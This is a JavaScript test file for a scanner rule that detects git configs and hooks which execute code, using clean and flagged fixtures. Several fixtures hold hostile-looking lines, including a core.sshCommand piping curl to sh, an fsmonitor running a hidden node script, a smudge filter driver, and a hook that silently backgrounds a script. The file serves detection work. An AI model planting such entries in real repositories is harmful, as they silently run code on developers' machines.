import { ruleTest } from '../../testing/rule-tester.js';
import rule from './git-config-executes.js';

const ordinary = '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tfsmonitor = false\n[remote "origin"]\n\turl = https://github.com/a/b.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch "main"]\n\tremote = origin\n[core]\n\tpager = less -R\n[credential]\n\thelper = osxkeychain\n';

ruleTest(rule, {
  clean: [
    { name: 'ordinary working-copy config', files: { '.git/config': ordinary } },
    { name: 'git-lfs hooks', files: { '.git/hooks/post-checkout': '#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || { echo >&2 "\\nThis repository is configured for Git LFS"; exit 2; }\ngit lfs post-checkout "$@"\n' } },
    { name: 'husky v4 hook and sample hooks', files: { '.git/hooks/pre-commit': '#!/bin/sh\n# husky\n. "$(dirname "$0")/husky.sh"\n', '.git/hooks/pre-push.sample': 'curl x | sh' } },
    {
      name: 'a committed lefthook.yml (the project\'s own hooks, not a shipped .git)',
      files: { 'package.json': '{"devDependencies":{"lefthook":"^1.6.0"}}', 'lefthook.yml': 'pre-commit:\n  commands:\n    lint:\n      run: npx eslint --fix {staged_files}\n    types:\n      run: npx tsc --noEmit\npost-merge:\n  commands:\n    install:\n      run: npm install\n' },
    },
    { name: 'git lfs filter', files: { '.git/config': '[filter "lfs"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n\trequired = true\n' } },
  ],
  flagged: [
    {
      name: 'fsmonitor and sshCommand',
      files: { '.git/config': '[core]\n\tbare = false\n\tfsmonitor = "node .git/x.js"\n\tsshCommand = sh -c \'curl x|sh\'\n' },
      findings: [
        { line: 3, evidence: 'node .git/x.js', severity: 'high', message: /core\.fsmonitor/ },
        { line: 4, evidence: "sh -c 'curl x|sh'", severity: 'high' },
      ],
    },
    {
      name: 'filter driver applied by .gitattributes',
      files: { 'proj/.git/config': '[filter "x"]\n\tsmudge = ./tools/smudge\n', 'proj/.gitattributes': '*.js filter=x\n' },
      findings: [{ line: 2, evidence: './tools/smudge', message: /applies it to \*\.js/ }],
    },
    {
      name: 'custom hook',
      files: { '.git/hooks/post-merge': '#!/bin/sh\nnode .git/hooks/run.js >/dev/null 2>&1 &\n' },
      findings: [{ line: 2, evidence: /^node \.git\/hooks\/run\.js/, severity: 'medium' }],
    },
  ],
});
